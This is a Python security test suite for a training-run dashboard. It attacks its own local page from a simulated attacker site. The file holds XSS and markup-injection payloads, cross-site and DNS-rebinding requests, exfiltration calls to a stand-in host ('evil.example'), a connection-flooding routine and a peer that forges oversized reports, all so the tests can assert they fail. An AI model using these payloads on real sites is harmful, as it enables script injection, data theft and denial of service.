"""The page in a real browser, attacked by other sites, strangers' names and numbers, markup that got in."""

from __future__ import annotations

import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from anabranch.config import render_run_file
from anabranch.observe import events as log
from anabranch.observe.event_log import EventLog, events_of
from anabranch.observe.page import page_thread
from anabranch.observe.page.html_report import report_html
from anabranch.observe.page.page_thread import PageThread
from anabranch.observe.page.server import CONNECTIONS_MAX
from anabranch.observe.view import log_preview
from anabranch.observe.view.recording import Recording
from support.browsers import chromium
from support.local_swarms import PATIENCE_S, small_run
from support.run_events import begin, step

#: Name of the attacker's site, which leads to this machine as after DNS rebinding.
EVIL = "evil.example"
#: Names that every JavaScript object has, as regions and ids of strangers.
INHERITED = ("constructor", "__proto__", "valueof", "tostring")
#: Attempts of a page of another site on the page at `at`; each gives what it got, or "" for nothing.
FROM_OUTSIDE = """async (at) => {
    const read = (path, options) => fetch(at + path, options).then((answer) => answer.type, () => "");
    const load = (tag, name, path) => new Promise((resolve) => {
        const element = document.createElement(tag);
        Object.assign(element, { rel: "stylesheet", [name]: at + path });
        element.onload = () => resolve(`${tag} loaded`);
        element.onerror = () => resolve("");
        document.head.append(element);
    });
    const opened = (made) => new Promise((resolve) => {
        made.onopen = made.onmessage = () => resolve("open");
        made.onerror = () => { made.close(); resolve(""); };
    });
    const stop = JSON.stringify({ action: "stop" });
    navigator.sendBeacon(at + "act", stop);
    return Promise.all([
        read("stream"), read("stream", { mode: "no-cors" }),
        read("metrics"), read("metrics", { mode: "no-cors" }),
        read("act", { method: "POST", mode: "no-cors", body: stop }),
        read("act", { method: "POST", headers: { "Content-Type": "application/json" }, body: stop }),
        read("act", { method: "POST", headers: { Authorization: "Bearer 0" }, body: stop }),
        opened(new EventSource(at + "stream")), opened(new WebSocket(at.replace("http", "ws") + "stream")),
        load("script", "src", "main.js"), load("script", "src", "metrics"),
        load("link", "href", "style.css"), load("img", "src", "icon.svg"),
    ]);
}"""
#: Attempts of markup or script that got into the page; `evil` is the attacker's server.
FROM_INSIDE = """async (evil) => {
    const add = (tag, fields, where = document.body) =>
        where.append(Object.assign(document.createElement(tag), fields));
    const markup = '<img src=x onerror="window.owned = 1">' +
        `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`;
    const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
    const code = "top.owned = 1";
    for (const attempt of [
        () => { document.body.innerHTML += markup; },
        () => document.body.insertAdjacentHTML("beforeend", markup),
        () => add("iframe", { srcdoc: `<script>${code}</script>` }),
        () => add("iframe", { src: blob(`<script>${code}</script>`, "text/html") }),
        () => add("script", { textContent: code }),
        () => add("script", { src: blob(code, "text/javascript") }),
        () => add("script", { src: `data:text/javascript,${code}` }),
        () => add("script", { src: `${evil}/script` }),
        () => import(`data:text/javascript,${code}`).catch(() => 0),
        () => setTimeout(code, 0),
        () => new Worker(blob(`fetch("${evil}/worker")`, "text/javascript")),
        () => navigator.serviceWorker.register("main.js").then(() => { window.owned = 1; }, () => 0),
        () => { const link = document.createElement("a"); link.href = `javascript:${code}`; link.click(); },
        () => { document.body.setAttribute("onclick", code); document.body.click(); },
        () => add("base", { href: `${evil}/` }, document.head),
        () => add("link", { rel: "stylesheet", href: `${evil}/style` }, document.head),
        () => add("link", { rel: "prefetch", href: `${evil}/prefetch` }, document.head),
        () => add("img", { src: `${evil}/picture?${location.hash}` }),
        () => add("form", { action: `${evil}/form`, id: "sent" }),
        () => document.getElementById("sent").submit(),
        () => fetch(`${evil}/fetch`).catch(() => 0),
        () => navigator.sendBeacon(`${evil}/beacon`),
        () => new EventSource(`${evil}/events`),
        () => new WebSocket(`${evil.replace("http", "ws")}/socket`),
        () => new FontFace("x", `url(${evil}/font)`).load().catch(() => 0),
    ]) try { await attempt(); } catch { /* refused at once */ }
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [window.owned ?? 0, document.baseURI.startsWith(evil)];
}"""


class Hand:
    """Owner's actions that are noted, and those that the page may offer."""

    actions = ("stop", "expel")

    def __init__(self) -> None:
        self.asked: list[tuple[str, str]] = []

    def ask(self, action: str, name: str, steps: int = 0) -> str:
        self.asked.append((action, name))
        return ""


class EvilSite(ThreadingHTTPServer):
    """Server of the attacker's site: an empty page at each address. `seen`: paths that it was asked for."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _EvilPage)
        self.seen: list[str] = []
        self.address = f"http://{EVIL}:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _EvilPage(BaseHTTPRequestHandler):
    server: EvilSite

    def do_GET(self) -> None:
        self.server.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>evil</title>")

    do_POST = do_GET

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium(f"--host-resolver-rules=MAP {EVIL} 127.0.0.1") as started:
        yield started


@pytest.fixture
def evil() -> Iterator[EvilSite]:
    site = EvilSite()
    yield site
    site.shutdown()
    site.server_close()


@pytest.fixture
def events(tmp_path: Path) -> Path:
    path = tmp_path / "events.jsonl"
    with EventLog(path) as file:
        for event in [*begin(), step(1)]:
            file.write(event)
    return path


def rows(count: int) -> str:
    return f"() => document.querySelectorAll('#peer-rows tr').length === {count}"


@pytest.mark.costly
def test_another_site_reads_nothing_does_nothing_and_costs_nothing(
    events: Path, browser: Any, evil: EvilSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole: list[Recording] = []
    document = Recording.document

    def counted(recording: Recording) -> dict[str, Any]:
        whole.append(recording)
        return document(recording)

    monkeypatch.setattr(Recording, "document", counted)
    hand = Hand()
    page = PageThread(events, owner=hand)
    at = page.start()
    port = urlsplit(at).port
    context = browser.new_context()
    try:
        outside = context.new_page()
        outside.goto(evil.address)
        found = outside.evaluate(FROM_OUTSIDE, at)
        assert len(found) == 13 and not any(found) and whole == []
        # A form, which needs no leave of the page.
        with context.expect_page() as sent:
            outside.evaluate(
                """(at) => {
                    const form = document.createElement("form");
                    Object.assign(form, { method: "post", enctype: "text/plain", target: "_blank" });
                    form.action = at + "act";
                    form.innerHTML = `<input name='{"action": "stop", "peer": "' value='"}'>`;
                    document.body.append(form);
                    form.submit();
                }""",
                at,
            )
        sent.value.wait_for_load_state()
        assert "another site may not" in sent.value.inner_text("body")
        # A frame, and a window that stays out of reach.
        framed = "(at) => document.body.append(Object.assign(document.createElement('iframe'), { src: at }))"
        outside.evaluate(framed, at)
        with context.expect_page() as opened:
            outside.evaluate("(at) => { window.kept = window.open(at); }", at)
        opened.value.wait_for_function(rows(6))
        assert opened.value.evaluate("() => window.opener") is None
        assert outside.evaluate("() => [window.kept.closed, window.kept.length]") == [True, 0]
        assert [frame.url for frame in outside.frames[1:]] == ["chrome-error://chromewebdata/"]
        # The page's own origin under the attacker's name, as after DNS rebinding.
        assert outside.goto(f"http://{EVIL}:{port}/").status == 403
        for path in ("", "main.js", "stream", "metrics"):
            assert outside.evaluate("async (path) => (await fetch('/' + path)).status", path) == 403
        assert hand.asked == [] and len(whole) == 1  # the window's
        # The page itself may do what the attacker could not.
        assert opened.value.evaluate("async () => (await fetch('metrics')).status") == 200
    finally:
        context.close()
        page.close()


def test_a_file_from_disk_reads_nothing(events: Path, browser: Any, tmp_path: Path) -> None:
    (tmp_path / "evil.html").write_text("<!doctype html><title>evil</title>")
    page = PageThread(events)
    at = page.start()
    try:
        outside = browser.new_page()
        outside.goto((tmp_path / "evil.html").as_uri())
        assert not any(outside.evaluate(FROM_OUTSIDE, at))
        outside.close()
    finally:
        page.close()


@pytest.mark.costly
def test_markup_and_scripts_that_got_in_can_do_nothing(
    events: Path, browser: Any, evil: EvilSite, tmp_path: Path
) -> None:
    """In the page as in the report: neither does a script run nor does a word get out."""
    recording = Recording()
    for event in [*begin(), step(1)]:
        recording.take(event)
    (tmp_path / "report.html").write_text(report_html(recording))
    page = PageThread(events, secret="abc123")
    try:
        for address in (page.start(), (tmp_path / "report.html").as_uri()):
            seen = browser.new_page()
            seen.goto(address)
            seen.wait_for_function(rows(6))
            assert seen.evaluate(FROM_INSIDE, evil.address) == [0, False]
            assert seen.url == address and evil.seen == []
            seen.close()
        other = browser.new_page()  # the attacker's server would have been reached
        other.goto(f"{evil.address}/control")
        other.close()
        assert "/control" in evil.seen
    finally:
        page.close()


@pytest.mark.costly
def test_the_owners_secret_is_in_no_address_that_is_asked_for_and_in_no_storage(
    events: Path, browser: Any
) -> None:
    page = PageThread(events, owner=Hand())
    page.start()
    secret = page.owner_address.rpartition("=")[2]
    context = browser.new_context()
    try:
        seen = context.new_page()
        asked: list[str] = []
        seen.on("request", lambda request: asked.append(f"{request.url} {request.headers.get('referer')}"))
        seen.goto(page.owner_address)
        seen.wait_for_function(rows(6))
        seen.click("#stop")
        assert seen.text_content("#stop") == "really stop?"
        assert len(asked) > 10 and not any(secret in request for request in asked)
        kept = "() => JSON.stringify([localStorage, sessionStorage, document.cookie])"
        assert secret not in seen.evaluate(kept)
        assert secret not in seen.content()
        for path in (f"no{secret}such", "act"):
            answer = context.request.get(page.address + path)
            assert secret not in answer.text() and answer.headers["cache-control"] == "no-store"
    finally:
        context.close()
        page.close()


def hostile(path: Path) -> int:
    """Write a log with strangers' strangest names and numbers; returns the number of peers."""
    names = [*INHERITED, "W" * 48, "\u05d0" * 48, "\ufdfd" * 48]
    trips = dict.fromkeys(names, 1e308)
    with EventLog(path) as file:
        for event in begin():
            file.write(event)
        for name in names:
            file.write(log.PeerJoined(
                time=103.0, subject=name, name=name, region=name, role=name, stage=1, numerics_class=""
            ))  # fmt: skip
            file.write(log.PeerActive(time=103.0, subject=name, stage=1, from_iteration=1))
            file.write(log.Note(time=104.0, peer=name, text=name * 9))
            file.write(log.Vitals(
                time=104.0, peer=name, stage=1, capacity=log.WHOLE_MAX, forward_s=1e308, backward_s=-1e308,
                trips=trips, ways=dict.fromkeys(names, "__proto__"), program=name,
            ))  # fmt: skip
        for t, loss in enumerate((1e17, 1e17 + 16, 1e17), start=1):
            file.write(step(t, loss=loss, time=105.0 + t))
            for name in names:
                file.write(log.Timing(
                    time=105.5 + t, peer=name, t=t, stage=1, forward_s=1e308, transfer_s=-1e308,
                    span_s=5e-324, bytes_reduce=log.WHOLE_MAX,
                ))  # fmt: skip
    return 6 + len(names)


@pytest.mark.costly
def test_strangers_names_and_numbers_break_nothing(tmp_path: Path, browser: Any) -> None:
    """Regions that JavaScript's objects inherit broke the map; losses that are huge and lie close together
    made an axis with ticks without end; a long region was wider than the screen."""
    path = tmp_path / "events.jsonl"
    count = hostile(path)
    page = PageThread(path)
    seen = browser.new_page(viewport={"width": 390, "height": 844})
    wrong: list[str] = []
    seen.on("pageerror", lambda error: wrong.append(str(error)))
    try:
        seen.goto(page.start())
        seen.wait_for_function(rows(count))
        # Where the ticks have no end, the page answers this no more.
        seen.set_default_timeout(1000 * PATIENCE_S)
        elsewhere = "document.querySelector('#map-note').textContent"
        seen.wait_for_function(f"() => {elsewhere}.includes('1 in constructor')")
        seen.locator("#map").scroll_into_view_if_needed()
        seen.locator("#chart-loss").scroll_into_view_if_needed()
        seen.wait_for_function("() => document.querySelector('#chart-loss').width > 300")
        seen.focus("#river")
        for key in ("ArrowRight", "ArrowDown", "ArrowDown"):
            seen.keyboard.press(key)
        assert seen.text_content("#details-name")
        wide = "() => [document.documentElement, ...document.querySelectorAll('.hint, .scroll, #details')]"
        assert seen.evaluate(f"{wide}.filter((e) => e.scrollWidth > e.clientWidth).map((e) => e.id)") == []
        time.sleep(0.5)  # some further rounds of drawing
        assert wrong == []
    finally:
        seen.close()
        page.close()


@pytest.mark.costly
def test_the_owner_expels_whom_the_page_shows_before_and_after_the_whole_log_is_read(
    tmp_path: Path, browser: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The preview of a long log has other keys of peers than the whole: an action once hit another peer."""
    path = tmp_path / "events.jsonl"
    started, *members = begin()
    gone: list[log.Event] = []
    for peer in "uvw":  # the whole log's first three keys are theirs
        gone.append(log.PeerJoined(
            time=100.5, subject=peer, name=peer, region="", role="relay", stage=1, numerics_class=""
        ))  # fmt: skip
        gone.append(log.PeerRemoved(time=100.6, subject=peer, stage=1, reason="left"))
    with EventLog(path) as file:
        for event in [started, *gone, *members, *(step(t) for t in range(1, 40))]:
            file.write(event)
    for name, value in (("LONG_BYTES", 1000), ("HEAD_BYTES", 5000), ("TAIL_BYTES", 4000)):
        monkeypatch.setattr(log_preview, name, value)
    go_on = threading.Event()
    fold = page_thread._fold

    def held(server: Any, recording: Recording, found: Any, cut: bool = True) -> None:
        if not cut:  # the whole log, while the preview is shown
            go_on.wait(60.0)
        fold(server, recording, found, cut)

    monkeypatch.setattr(page_thread, "_fold", held)
    monkeypatch.setattr(page_thread, "PREVIEW_S", 0.0)
    hand = Hand()
    page = PageThread(path, owner=hand)
    page.start()
    seen = browser.new_page()
    bodies: list[Any] = []
    seen.on("request", lambda asked: bodies.append(asked.post_data_json) if asked.method == "POST" else None)
    try:
        seen.goto(page.owner_address)
        seen.wait_for_function("() => document.querySelector('#phase-why').textContent.includes('preview')")
        seen.wait_for_function(rows(6))
        name = chosen(seen)
        expel = seen.locator("#details-acts button:has-text('expel')")
        expel.click()  # and it asks whether that is meant
        former = key_of(page, name)
        go_on.set()
        seen.wait_for_function("() => document.querySelector('#phase-why').hidden")
        assert key_of(page, name) != former
        seen.wait_for_function("() => document.querySelector('#details').hidden")  # it is another peer's now
        name = chosen(seen)
        expel.click()
        seen.locator("#details-acts button:has-text('really expel?')").click()
        seen.wait_for_function("() => document.querySelector('#act-said').textContent.startsWith('expel: ')")
        assert hand.asked == [("expel", name.removeprefix("name-"))]
        assert [body["peer"] for body in bodies] == [name.removeprefix("name-")]
        page.close()
        for _ in range(2):
            seen.click("#stop")
        seen.wait_for_function("() => document.querySelector('#act-said').textContent.includes('no answer')")
    finally:
        go_on.set()
        seen.close()
        page.close()


def key_of(page: PageThread, name: str) -> str:
    """Key of the record of the peer with this name, in the recording that the page shows."""
    assert page._server is not None
    nodes = page._server.recording.view.state.sections["nodes"]
    return next(key for key, node in nodes.items() if node["name"] == name)


def chosen(seen: Any) -> str:
    """Choose the first peer of the first relay stage by the keyboard; returns its name."""
    seen.focus("#river")
    for key in ("Escape", "ArrowRight", "ArrowRight"):
        seen.keyboard.press(key)
    return str(seen.text_content("#details-name")).partition(" in ")[0]


#: Step that the liar's reports are about.
LIED_T = 77_777
#: Program of a volunteer that reports numbers without bounds and times to come with its first steps; all the
#: time would be more bytes than a guest may report.
LIAR = f"""
import sys
from anabranch.cli.main import main
from anabranch.node.driver.event_writer import EventWriter

honest, lies = EventWriter.flush, [9e10, "1" + "0" * 400, "9" * 4000, 1]

def flush(self):
    if lies and any(b'"timing"' in line for line in self._unsent):
        time = lies.pop(0)
        line = f'{{{{"kind": "timing", "peer": "{{self._peer}}", "time": {{time}}, "t": {LIED_T}, '
        for count in (1, "9" * 4300):
            self._unsent.append((line + f'"stage": 1, "bytes_reduce": {{count}}}}}}').encode())
    honest(self)

EventWriter.flush = flush
sys.exit(main(sys.argv[1:]))
"""


def until(true: Callable[[], Any]) -> Any:
    """The first true value of `true`."""
    late = time.monotonic() + PATIENCE_S
    while not (value := true()):
        assert time.monotonic() < late
        time.sleep(0.1)
    return value


def found(output: Path, pattern: str) -> str:
    """First group of a pattern in the output of a process, once it is there."""
    match: re.Match[str] = until(lambda: re.search(pattern, output.read_text()))
    return match[1]


def besiege(port: int, stack: ExitStack) -> None:
    """Open more connections than the page has places, a third each with a slow request, an endless head and
    an unread stream."""
    endless = b"GET / HTTP/1.1\r\n" + b"x: " + b"y" * 60_000
    words = (b"GET / HTTP/1.1\r\n", endless, b"GET /stream HTTP/1.1\r\nHost: localhost\r\n\r\n")
    for number in range(CONNECTIONS_MAX + CONNECTIONS_MAX // 2):
        caller = stack.enter_context(socket.create_connection(("127.0.0.1", port), PATIENCE_S))
        caller.sendall(words[number % 3])


@pytest.mark.soak
def test_a_run_goes_on_while_its_page_and_its_log_are_attacked(
    tmp_path: Path, texts: Path, browser: Any, evil: EvilSite
) -> None:
    """The page is served by the process that leads. Afterwards its owner stops the run on the page."""
    run = small_run(
        texts, run__steps=100_000, pipeline__stages=1, fleet__relays_per_stage=[2], evaluation__every=0
    )
    (tmp_path / "run.toml").write_text(render_run_file(run))
    directory, output = tmp_path / "run", tmp_path / "leader.txt"
    module = [sys.executable, "-m", "anabranch.cli.main"]
    with ExitStack() as stack:

        def spawn(name: str, *command: str) -> subprocess.Popen[bytes]:
            file = stack.enter_context((tmp_path / f"{name}.txt").open("wb"))
            process = subprocess.Popen(command, stdout=file, stderr=subprocess.STDOUT)
            stack.callback(process.wait)
            stack.callback(process.kill)
            return process

        leader = spawn("leader", *module, "start", str(tmp_path / "run.toml"), "--run-dir", str(directory))
        ticket = found(output, r"anabranch join (anabranch1:\S+)")
        address = found(output, r"keep this address secret\): (\S+)")
        spawn("honest", *module, "join", ticket, "--home", str(tmp_path / "honest"))
        spawn("liar", sys.executable, "-c", LIAR, "join", ticket, "--home", str(tmp_path / "lying"))

        def steps() -> int:
            return len(events_of(directory / "events.jsonl", log.Step))

        until(lambda: steps() > 3)
        outside = browser.new_page()
        outside.goto(evil.address)
        at = address.partition("#")[0]
        before = steps()
        besiege(urlsplit(at).port or 0, stack)
        for _ in range(20):
            assert not any(outside.evaluate(FROM_OUTSIDE, at))
        until(lambda: steps() > before + 20)
        timings = events_of(directory / "events.jsonl", log.Timing)
        lies = [event for event in timings if event.t == LIED_T]
        assert len(lies) == 2 and max(lie.time for lie in lies) <= time.time(), "those that are events came"
        outside.close()
        mine = browser.new_page()
        mine.set_default_timeout(PATIENCE_S * 1000)
        mine.goto(address)
        mine.wait_for_function("() => document.querySelector('#phase').textContent === 'training'")
        mine.click("#stop")
        mine.click("#stop")
        assert leader.wait(PATIENCE_S) == 0
        mine.close()
    assert "Traceback" not in output.read_text()
